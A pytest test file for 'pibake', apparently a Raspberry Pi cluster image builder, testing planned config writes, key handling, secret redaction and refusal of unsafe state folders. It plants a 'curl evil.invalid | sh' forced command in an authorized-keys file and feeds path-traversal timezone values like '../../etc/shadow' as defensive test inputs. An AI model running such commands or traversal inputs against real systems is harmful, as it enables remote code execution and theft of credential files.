"""Tier 1: plans, keys and the `pibake plan` command, without any image."""

from __future__ import annotations

import hashlib
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from builder.keys import KeyStore
from builder.plan import Append, Delete, Move, Symlink, Write, describe, plan_node
from builder.profile import Profile, load
from builder.release import detect, named
from conftest import WIFI_PASSPHRASE, run_pibake, write_profile

BOOKWORM_OS_RELEASE = 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_CODENAME=bookworm\n'


@pytest.fixture
def profile(operator_key: Path, tmp_path: Path, monkeypatch) -> Profile:
    monkeypatch.setenv("PIBAKE_WIFI_PASSPHRASE", WIFI_PASSPHRASE)
    return load(write_profile(tmp_path, f"""
        user:
          name: alice
          ssh_keys: [{operator_key}]
        master:
          uplink:
            wifi: {{ssid: HomeNet, country: DE}}
        workers:
          count: 3
        """))


def _by_path(ops) -> dict:
    out: dict = {}
    for op in ops:
        out.setdefault(op.path, []).append(op)
    return out


def test_master_plan_on_bookworm(profile: Profile, tmp_path: Path) -> None:
    keys = KeyStore(tmp_path / "state")
    plan = plan_node(profile, profile.master.node, named("bookworm"), keys)
    ops = _by_path(plan.ops)
    assert ops["/etc/hostname"] == [Write("/etc/hostname", b"master\n")]
    dnsmasq = ops["/etc/dnsmasq.d/pibake-cluster.conf"][0].content.decode()
    assert "interface=eth0\n" in dnsmasq
    assert "dhcp-range=192.168.5.2,192.168.5.64,255.255.255.0,24h\n" in dnsmasq
    for n in (1, 2, 3):
        assert f"dhcp-host=worker{n},192.168.5.{100 + n},24h\n" in dnsmasq
    # Forwarding is switched on by the firewall's unit once its rules are loaded, never by sysctl.d.
    assert not any(path.startswith("/etc/sysctl.d/") for path in ops)
    assert "-A POSTROUTING -s 192.168.5.0/24 -o wlan0 -j MASQUERADE" in ops["/etc/iptables/rules.v4"][0].content.decode()
    assert ops["/etc/systemd/system/multi-user.target.wants/pibake-firewall.service"] == [
        Symlink("/etc/systemd/system/multi-user.target.wants/pibake-firewall.service",
                "/etc/systemd/system/pibake-firewall.service")]
    assert ops["/usr/local/sbin/pibake-nat"][0].mode == 0o755
    lan = ops["/etc/NetworkManager/system-connections/pibake-lan.nmconnection"][0]
    assert (lan.mode, lan.owner) == (0o600, (0, 0)) and "address1=192.168.5.1/24" in lan.content.decode()
    wifi = ops["/etc/NetworkManager/system-connections/pibake-uplink.nmconnection"][0]
    assert wifi.secret and wifi.mode == 0o600
    assert f"psk={profile.master.wifi.psk}" in wifi.content.decode()
    assert WIFI_PASSPHRASE not in wifi.content.decode()
    assert ops["/boot/firmware/cmdline.txt"][0].replacement.endswith(" cfg80211.ieee80211_regdom=DE")
    assert "/etc/dhcpcd.conf" not in ops
    workers = ops["/etc/pibake/workers"][0].content.decode()
    assert [line for line in workers.splitlines() if not line.startswith("#")] == ["worker1", "worker2", "worker3"]
    # the cluster key goes to the master's user only
    private = ops["/home/alice/.ssh/id_ed25519"][0]
    assert private.secret and private.mode == 0o600 and private.owner == (1000, 1000)
    assert private.content == keys.cluster_key().private


def test_user_rename_mirrors_userconf(profile: Profile, tmp_path: Path) -> None:
    plan = plan_node(profile, profile.workers.nodes[0], named("bookworm"), KeyStore(tmp_path / "state"))
    ops = _by_path(plan.ops)
    passwd = ops["/etc/passwd"][0]
    assert re.sub(passwd.pattern, passwd.replacement, "pi:x:1000:1000:,,,:/home/pi:/usr/sbin/nologin") == \
        "alice:x:1000:1000:,,,:/home/alice:/bin/bash"
    members = [op for op in ops["/etc/group"] if not op.required][0]
    assert re.sub(members.pattern, members.replacement, "sudo:x:27:bob,pi,pix") == "sudo:x:27:bob,alice,pix"
    assert Move("/home/pi", "/home/alice") in plan.ops
    assert Delete("/etc/systemd/system/multi-user.target.wants/userconfig.service") in plan.ops
    assert Write("/etc/sudoers.d/010_alice-nopasswd", b"alice ALL=(ALL) NOPASSWD: ALL\n", 0o440) in plan.ops
    # a worker gets no master files
    assert not any(p.startswith("/etc/dnsmasq.d") or "uplink" in p for p in ops)
    assert "/home/alice/.ssh/id_ed25519" not in ops
    # the home is moved before anything is written into it
    move_at = plan.ops.index(Move("/home/pi", "/home/alice"))
    assert all(plan.ops.index(op) > move_at for path, group in ops.items() if path.startswith("/home/alice/") for op in group)


def test_bullseye_master_uses_dhcpcd_wpa_supplicant_and_boot(profile: Profile, tmp_path: Path) -> None:
    plan = plan_node(profile, profile.master.node, named("bullseye"), KeyStore(tmp_path / "state"))
    ops = _by_path(plan.ops)
    dhcpcd = ops["/etc/dhcpcd.conf"][0]
    assert isinstance(dhcpcd, Append) and "interface eth0\nstatic ip_address=192.168.5.1/24\n" in dhcpcd.text
    wpa = ops["/etc/wpa_supplicant/wpa_supplicant.conf"][0]
    assert wpa.secret and wpa.mode == 0o600 and "country=DE" in wpa.content.decode()
    assert "/boot/cmdline.txt" in ops and "/boot/firmware/cmdline.txt" not in ops
    assert not any("NetworkManager/system-connections" in p for p in ops)


def test_host_keys_are_kept_and_private_files_are_0600(profile: Profile, tmp_path: Path) -> None:
    keys = KeyStore(tmp_path / "state")
    first = keys.host_key("worker2")
    again = KeyStore(tmp_path / "state").host_key("worker2")
    assert first == again
    private = tmp_path / "state/keys/worker2_ssh_host_ed25519_key"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    derived = subprocess.run(["ssh-keygen", "-y", "-f", str(private)], capture_output=True, text=True, check=True).stdout
    assert derived.split()[:2] == first.public.split()[:2]
    assert first.public.endswith(" root@worker2")


def test_release_detection_reads_os_release() -> None:
    assert detect(BOOKWORM_OS_RELEASE, True).boot_dir == "/boot/firmware"
    bullseye = detect(BOOKWORM_OS_RELEASE.replace("bookworm", "bullseye"), True)
    assert (bullseye.boot_dir, bullseye.network) == ("/boot", "dhcpcd")
    with pytest.raises(Exception, match=r"not Raspberry Pi OS \(Debian GNU/Linux 12 \(bookworm\); no /etc/rpi-issue\)"):
        detect(BOOKWORM_OS_RELEASE, False)
    with pytest.raises(Exception, match="unsupported release 'buster'"):
        detect(BOOKWORM_OS_RELEASE.replace("bookworm", "buster"), True)
    assert detect(BOOKWORM_OS_RELEASE.replace("bookworm", "forky"), True, force=True).network == "networkmanager"


def test_describe_never_shows_secrets(profile: Profile, tmp_path: Path) -> None:
    keys = KeyStore(tmp_path / "state")
    plan = plan_node(profile, profile.master.node, named("bookworm"), keys)
    text = repr([describe(op) for op in plan.ops])
    assert profile.master.wifi.psk not in text
    assert "PRIVATE KEY" not in text
    assert "redacted" in text


def test_plan_command_prints_every_operation_without_secrets(operator_key: Path, workdir: Path) -> None:
    write_profile(workdir, f"""
        user:
          ssh_keys: [{operator_key}]
          password_hash: "$6$saltsalt$Qg5bQ3Xf0pZlD3cWkZ1bqf8Wm8J1m8Yw7oW0mB8sC3F2Jq2bT8E0yA7M3F0kS2zY3vX4nT1mQ9aR5cU6dL7eW."
        master:
          uplink:
            wifi: {{ssid: HomeNet}}
        """, name="cluster.yaml")
    os.mkdir(workdir / "profiles")
    os.rename(workdir / "cluster.yaml", workdir / "profiles/cluster.yaml")
    result = run_pibake("plan", "cluster", "--release", "bookworm", cwd=workdir)
    assert result.code == 0, result.output
    out = result.stdout
    assert "master (master, 192.168.5.1): release bookworm, because --release bookworm" in out
    for n in range(1, 6):
        assert f"worker{n} (worker, 192.168.5.{100 + n})" in out
    assert "/etc/ssh/pibake/ssh_host_ed25519_key" in out and "<secret," in out
    assert "write   /home/pi/.ssh/authorized_keys" in out and "0600 1000:1000" in out
    for secret in (WIFI_PASSPHRASE, "Qg5bQ3Xf0pZlD3cWkZ1bq", "PRIVATE KEY"):
        assert secret not in result.output
    psk = hashlib.pbkdf2_hmac("sha1", WIFI_PASSPHRASE.encode(), b"HomeNet", 4096, 32).hex()
    assert psk not in result.output
    assert (workdir / "state/keys/master_ssh_host_ed25519_key").exists()
    assert not (workdir / "output").exists()


def test_trixie_plans_turn_cloud_init_off(operator_key: Path, workdir: Path) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\n")
    trixie = run_pibake("plan", "master", "--release", "trixie", "--profiles", "cluster.yaml", cwd=workdir)
    assert trixie.code == 0 and "warning" not in trixie.stderr, trixie.output
    assert "release trixie, because --release trixie; first boot: cloud-init" in trixie.stdout
    assert "/etc/cloud/cloud-init.disabled" in trixie.stdout
    assert "/etc/NetworkManager/system-connections/pibake-lan.nmconnection" in trixie.stdout
    bookworm = run_pibake("plan", "master", "--release", "bookworm", "--profiles", "cluster.yaml", cwd=workdir)
    assert "first boot: raspberrypi-sys-mods firstboot" in bookworm.stdout
    assert "cloud-init" not in bookworm.stdout


def test_first_and_count_only_for_workers(operator_key: Path, workdir: Path) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\n")
    result = run_pibake("plan", "master", "--count", "2", "--release", "bookworm", "--profiles", "cluster.yaml", cwd=workdir)
    assert result.code == 2 and "--first and --count apply to 'pibake build worker' only" in result.stderr
    result = run_pibake("plan", "worker", "--first", "5", "--count", "3", "--release", "bookworm", "--profiles", "cluster.yaml", cwd=workdir)
    assert result.code == 1 and "worker7 is not in the profile" in result.stderr and "Traceback" not in result.output


def test_version_and_help(workdir: Path) -> None:
    from builder import __version__

    assert run_pibake("--version", cwd=workdir).stdout.strip() == f"pibake, version {__version__}"
    help_text = run_pibake("build", "--help", cwd=workdir).stdout
    for option in ("--image", "--output", "--profiles", "--count", "--first", "--verbose", "--quiet", "Examples:"):
        assert option in help_text


@pytest.mark.parametrize("command", [("build",), ("plan",), ("check",), ("flash",), ("fetch",), ("images",),
                                     ("cache",), ("cache", "list")])
def test_each_command_s_help_shows_its_own_examples(command: tuple[str, ...]) -> None:
    from click.testing import CliRunner

    from builder.cli import cli

    text = CliRunner().invoke(cli, [*command, "--help"]).output
    examples = text.split("Examples:\n", 1)[1].splitlines() if "Examples:" in text else []
    examples = [line.split("#")[0].strip() for line in examples if line.strip()]
    assert examples, text
    assert all(re.match(rf"(sudo \S+/)?pibake {command[0]}\b", line) for line in examples), examples


def _derived_public(private: Path) -> list[str]:
    out = subprocess.run(["ssh-keygen", "-y", "-f", str(private)], capture_output=True, text=True, check=True).stdout
    return out.split()[:2]


def test_a_key_pair_cut_short_by_a_crash_is_mended_or_replaced(operator_key: Path, workdir: Path) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 2\n")
    args = ("plan", "cluster", "--release", "bookworm", "--profiles", "cluster.yaml")
    assert run_pibake(*args, cwd=workdir).code == 0
    keys = workdir / "state/keys"
    master, worker = keys / "master_ssh_host_ed25519_key", keys / "worker1_ssh_host_ed25519_key"
    cluster = keys / "cluster_id_ed25519"
    kept = {path: path.read_bytes() for path in (master, cluster)}
    # A private key without its .pub (a crash between the two writes of older versions),
    # a .pub that is not the private key's, and a .pub alone (a crash between the renames).
    master.with_name(master.name + ".pub").unlink()
    cluster.with_name(cluster.name + ".pub").write_text(operator_key.read_text())
    worker.unlink()
    lone_public = worker.with_name(worker.name + ".pub").read_text()
    result = run_pibake(*args, cwd=workdir)
    assert result.code == 0, result.output
    for path in (master, cluster):
        assert path.read_bytes() == kept[path]  # the identity the nodes and known_hosts have stays
    for private in (master, cluster, worker):
        public = private.with_name(private.name + ".pub").read_text()
        assert public.split()[:2] == _derived_public(private), private
        assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert worker.with_name(worker.name + ".pub").read_text() != lone_public
    assert (keys / "master_ssh_host_ed25519_key.pub").read_text().endswith(" root@master\n")
    assert sorted(p.name for p in keys.iterdir() if p.name.startswith(".")) == []


@pytest.mark.parametrize("zone", ["Europe/Berlin", "UTC", "America/Argentina/Buenos_Aires", "Etc/GMT+5"])
def test_timezone_is_a_link_and_a_file(operator_key: Path, workdir: Path, zone: str) -> None:
    write_profile(workdir, f"timezone: {zone}\nuser:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
    result = run_pibake("plan", "worker", "--release", "bookworm", "--profiles", "cluster.yaml", cwd=workdir)
    assert result.code == 0, result.output
    assert re.search(rf"symlink +/etc/localtime +-> /usr/share/zoneinfo/{re.escape(zone)}$", result.stdout, re.M)
    assert re.search(rf"write +/etc/timezone +0644 +0:0  {re.escape(zone)}$", result.stdout, re.M)


@pytest.mark.parametrize("zone", ["../../etc/shadow", "Europe/../../x", "/etc/passwd", '"Europe/Berlin\\n"', "Europe Berlin",
                                  '""', "Europe//Berlin", "x" * 65])
def test_timezone_that_is_not_a_zone_name_is_refused(operator_key: Path, workdir: Path, zone: str) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\ntimezone: {zone}\n")
    result = run_pibake("plan", "worker", "--release", "bookworm", "--profiles", "cluster.yaml", cwd=workdir)
    assert result.code == 2 and "Traceback" not in result.output
    assert "cluster.yaml:3: timezone: " in result.stderr, result.stderr
    assert "is not a time zone name" in result.stderr or "holds a control character" in result.stderr, result.stderr


def test_runs_sharing_a_state_folder_take_turns(operator_key: Path, workdir: Path) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 40\n")
    args = [sys.executable, "-m", "builder", "plan", "cluster", "--release", "bookworm", "--profiles", "cluster.yaml"]
    runs = [subprocess.Popen(args, cwd=workdir, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
            for _ in range(4)]
    outputs = [run.communicate(timeout=300)[1] for run in runs]
    assert [run.returncode for run in runs] == [0] * 4, outputs
    keys = workdir / "state/keys"
    privates = [p for p in keys.iterdir() if not p.name.endswith(".pub") and not p.name.startswith(".")]
    assert len(privates) == 42
    for private in privates:
        assert private.with_name(private.name + ".pub").read_text().split()[:2] == _derived_public(private), private
    assert stat.S_IMODE((workdir / "state").stat().st_mode) == 0o700


def _plan_one(workdir: Path) -> "subprocess.CompletedProcess[str]":
    return subprocess.run([sys.executable, "-m", "builder", "plan", "master", "--release", "bookworm", "--profiles",
                           "cluster.yaml"], cwd=workdir, capture_output=True, text=True, stdin=subprocess.DEVNULL,
                          env={**os.environ, "PIBAKE_WIFI_PASSPHRASE": WIFI_PASSPHRASE})


def _refused(result: "subprocess.CompletedProcess[str]", *words: str, code: int = 2) -> None:
    assert result.returncode == code and "Traceback" not in result.stderr, result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("pibake: error: ") and all(w in last for w in words), result.stderr


@pytest.mark.parametrize("planted", ["writable", "foreign", "linked folder"])
def test_a_state_folder_others_could_have_written_is_not_trusted(operator_key: Path, workdir: Path, planted: str) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
    assert _plan_one(workdir).returncode == 0
    state = workdir / "state"
    if planted == "writable":
        os.chmod(state / "keys", 0o777)
        _refused(_plan_one(workdir), f"state folder {state / 'keys'} can be written by others (mode 0777)")
    elif planted == "foreign":
        os.chown(state, 65534, 65534)
        _refused(_plan_one(workdir), f"state folder {state} belongs to another user (uid 65534)")
    else:
        (state / "keys").rename(workdir / "elsewhere")
        (state / "keys").symlink_to(workdir / "elsewhere")
        _refused(_plan_one(workdir), "is not a folder (a link?)")


@pytest.mark.parametrize("planted", ["lock link", "lock link to a file", "lock folder", "state link",
                                     "dangling state link"])
def test_the_state_folder_is_checked_before_its_lock_is_made(operator_key: Path, workdir: Path, planted: str) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
    state, elsewhere = workdir / "state", workdir / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    victim = elsewhere / "victim"
    if planted.startswith("lock"):
        state.mkdir(mode=0o700)
        if planted == "lock folder":
            (state / ".lock").mkdir()
        else:
            if planted == "lock link to a file":
                victim.write_text("kept\n")
            (state / ".lock").symlink_to(victim)
    else:
        state.symlink_to(elsewhere if planted == "state link" else elsewhere / "missing")
    before = sorted(p.name for p in elsewhere.iterdir())
    result = _plan_one(workdir)
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    if planted.startswith("lock"):
        why = "it is a symlink" if "link" in planted else "Is a directory"
        _refused(result, f"cannot use {state / '.lock'} as the state folder's lock: {why}")
        assert sorted(p.name for p in state.iterdir()) == [".lock"]  # no keys made
    else:
        _refused(result, f"state folder {state} is not a folder (a link?)")
        assert state.is_symlink()
    # Nothing made or changed through the link.
    assert sorted(p.name for p in elsewhere.iterdir()) == before
    if planted == "lock link to a file":
        assert victim.read_text() == "kept\n"
    else:
        assert not victim.exists()


def test_key_files_are_not_followed_nor_their_public_half_read_back(operator_key: Path, workdir: Path,
                                                                    tmp_path_factory: pytest.TempPathFactory) -> None:
    write_profile(workdir, f"user:\n  ssh_keys: [{operator_key}]\nworkers:\n  count: 1\n")
    assert _plan_one(workdir).returncode == 0
    keys = workdir / "state/keys"
    # A key file that is a link (to the operator's own private key, say) is refused, not read.
    private = keys / "master_ssh_host_ed25519_key"
    private.unlink()
    private.symlink_to(operator_key.with_suffix(""))
    _refused(_plan_one(workdir), f"cannot reuse key {private}: it is a symlink", code=1)
    private.unlink()
    # A line added to the cluster key's .pub never reaches authorized_keys: the public half is derived.
    # (In this process last: it holds the state folder's lock from here on.)
    cluster_pub = keys / "cluster_id_ed25519.pub"
    clean = cluster_pub.read_text()
    cluster_pub.write_text(clean + 'command="curl evil.invalid | sh" ssh-ed25519 AAAAplanted\n')
    profile = load(workdir / "cluster.yaml")
    plan = plan_node(profile, profile.master.node, named("bookworm"), KeyStore(workdir / "state"))
    authorized = next(op for op in plan.ops if op.path.endswith("/authorized_keys")).content.decode()
    assert "planted" not in authorized and "command=" not in authorized
    assert cluster_pub.read_text() == clean


SSIDS = ["Home\\Net", "  spaced out  ", "65;66;67;", "7;", "7", "#not a comment", "[wifi]", "a=b;c", "Café ☕ 5G",
         "\\s\\n\\t\\\\", "x" * 32, "it's \"quoted\"", ";", "ssid=1;2;"]


@pytest.mark.parametrize("ssid", SSIDS)
def test_networkmanager_reads_the_ssid_back_byte_for_byte(operator_key: Path, tmp_path: Path, monkeypatch,
                                                          ssid: str) -> None:
    import nm_keyfile  # libnm, from the system's packages

    monkeypatch.setenv("PIBAKE_WIFI_PASSPHRASE", WIFI_PASSPHRASE)
    yaml_ssid = ssid.replace("'", "''")
    profile = load(write_profile(tmp_path, f"user:\n  ssh_keys: [{operator_key}]\n"
                                           f"master:\n  uplink:\n    wifi: {{ssid: '{yaml_ssid}'}}\n"))
    assert profile.master.wifi.ssid == ssid
    ops = _by_path(plan_node(profile, profile.master.node, named("bookworm"), KeyStore(tmp_path / "state")).ops)
    uplink = ops["/etc/NetworkManager/system-connections/pibake-uplink.nmconnection"][0].content.decode()
    assert nm_keyfile.wifi(uplink) == (ssid.encode(), profile.master.wifi.psk, "wlan0")
    lan = nm_keyfile.read(ops["/etc/NetworkManager/system-connections/pibake-lan.nmconnection"][0].content.decode())
    assert lan.get_interface_name() == "eth0" and lan.verify()
